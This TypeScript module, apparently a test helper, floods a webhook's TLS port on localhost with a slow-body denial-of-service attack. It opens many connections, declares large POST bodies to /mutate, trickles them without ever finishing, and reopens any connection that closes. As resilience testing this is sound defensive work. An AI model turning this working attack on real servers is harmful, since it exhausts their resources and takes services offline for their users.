// A client of no rights that finds the webhook's port: many connections, each with a large body that never ends.
import type { Socket } from 'node:net';
import { connect } from 'node:tls';

export interface SlowBodies {
  /** Connections that got as far as TLS. */
  readonly opened: number;
  stop(): void;
}

export interface SlowBodiesOptions {
  readonly port: number;
  readonly connections: number;
  /** What the head declares; of it one byte is held back. */
  readonly bytes: number;
  /** Bytes of one write, and milliseconds between two. */
  readonly piece?: number;
  readonly pauseMs?: number;
}

/** A connection that ends is opened again, as an attacker would. */
export function startSlowBodies(options: SlowBodiesOptions): SlowBodies {
  const { port, connections, bytes, piece = 64 * 1024, pauseMs = 50 } = options;
  const text = Buffer.alloc(piece, 'x');
  const head = `POST /mutate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${bytes}\r\n\r\n`;
  const state = { opened: 0, stopped: false };
  const sockets = new Set<Socket>();
  const timers = new Set<NodeJS.Timeout>();

  const attack = (): void => {
    if (state.stopped) return;
    let left = bytes - 1;
    let ready = false;
    const socket = connect({ port, host: '127.0.0.1', rejectUnauthorized: false }, () => {
      ready = true;
      state.opened += 1;
      socket.write(head);
    });
    const trickle = setInterval(() => {
      // Nothing while the kernel still has what was written before.
      if (!ready || socket.writableNeedDrain) return;
      const size = Math.min(piece, left);
      left -= size;
      if (size > 0) socket.write(text.subarray(0, size));
    }, pauseMs);
    timers.add(trickle);
    sockets.add(socket);
    // Answers are read; the one that says there is no room does not make it stop.
    socket.on('data', () => undefined);
    socket.on('error', () => undefined);
    socket.once('close', () => {
      clearInterval(trickle);
      timers.delete(trickle);
      sockets.delete(socket);
      setTimeout(attack, pauseMs);
    });
  };
  for (let index = 0; index < connections; index += 1) attack();
  return {
    get opened() {
      return state.opened;
    },
    stop: () => {
      state.stopped = true;
      for (const timer of timers) clearInterval(timer);
      for (const socket of sockets) socket.destroy();
    },
  };
}
